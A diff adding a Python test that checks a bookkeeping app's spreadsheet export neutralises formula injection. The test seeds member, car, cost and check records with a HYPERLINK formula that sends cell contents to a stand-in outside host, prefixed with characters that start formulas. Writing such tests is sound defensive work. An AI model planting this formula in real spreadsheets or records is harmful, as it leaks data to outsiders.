@@ -118,6 +118,30 @@ def test_untidy_text_of_the_book_is_dumped_so_that_it_loads_the_same(tmp_path: P
     assert reloaded(files, tmp_path) == files
 
 
+FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"Open")'
+
+
+def test_no_cell_that_a_member_wrote_begins_a_formula(tmp_path: Path) -> None:
+    for number, start in enumerate(["=", "+", "-", "@", "＝", "'="]):  # noqa: RUF001 - full width, as some keyboards have it
+        keeper = MemberFactory.create(name=start + FORMULA, email=f"{'=+-'[number % 3]}{number}@book.example")
+        car = CarFactory.create(description=start + FORMULA, keeper=keeper)
+        of_car = {"car": car, "ref": start + str(car.pk)}
+        CostEntryFactory.create(**of_car, supplier=start + FORMULA, note=start + FORMULA, amount="-12.00")
+        FillFactory.create(**of_car)
+        TeachingRecordFactory.create(**of_car)
+        DueItemFactory.create(car=car, note=start + FORMULA)
+        WalkaroundCheckFactory.create(**of_car, points=[f"-{number}"], note=start + FORMULA)
+        DefectFactory.create(**of_car, words=start + FORMULA)
+        CheckPointFactory.create(name=f"-{number}", words=start + FORMULA, look_for=start + FORMULA)
+    CooperativeFactory.create(name=FORMULA)
+    files = dump().files
+    cells = [cell for name in files for row in rows_of(files, name) for cell in row.values()]
+    assert sum("HYPERLINK" in cell for cell in cells) > 50
+    begins = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝"))]  # noqa: RUF001
+    assert set(begins) == {"-12.00"}
+    assert reloaded(files, tmp_path) == files
+
+
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=20)
 @given(
     note=st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=30),
